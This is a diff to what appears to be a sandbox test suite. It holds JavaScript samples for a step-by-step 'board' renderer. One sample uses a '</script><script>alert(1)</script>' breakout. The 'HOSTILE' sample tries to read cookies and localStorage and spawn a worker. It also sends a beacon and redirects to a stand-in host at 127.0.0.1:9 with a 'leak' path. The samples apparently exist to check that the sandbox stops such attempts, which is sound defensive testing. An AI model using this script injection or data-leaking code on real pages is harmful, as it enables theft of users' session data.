@@ -18,6 +18,9 @@ export function draw({ shown }, drawn) {
 export const say = ({ step, shown }) => `Step ${step}: ${shown || "nothing"}. </script><script>alert(1)</script>`;
 """
 
+NOBODY = "127.0.0.1:9"
+"""The host that the hostile board calls; a test that listens puts its own place there."""
+
 HOSTILE = """\
 const won = [];
 async function attempt(name, act) {
@@ -29,7 +32,10 @@ async function attempt(name, act) {
 const HOST = "http://127.0.0.1:9/";
 export function parse() { return { steps: [1, 2] }; }
 export const frames = () => ({ count: 2, seek: (step) => ({ step }) });
-export const draw = () => document.createElement("p");
+export function draw({ step }) {
+  if (step === 1) location.href = HOST + "leak";
+  return document.createElement("p");
+}
 export const say = ({ step }) => (step === 2 ? `won: ${won.join()};` : "trying");
 await attempt("cookie", () => document.cookie);
 await attempt("storage", () => localStorage.length);
@@ -61,6 +67,5 @@ await attempt("form", () => {
   return "stopped";
 });
 await attempt("worker", () => new Worker("/static/board/worker.js"));
-await attempt("beacon", () => navigator.sendBeacon(HOST, "x") || "stopped");
-setTimeout(() => { location.href = HOST + "leak"; }, 1500);
+await attempt("beacon", () => { navigator.sendBeacon(HOST, "x"); return "stopped"; });
 """
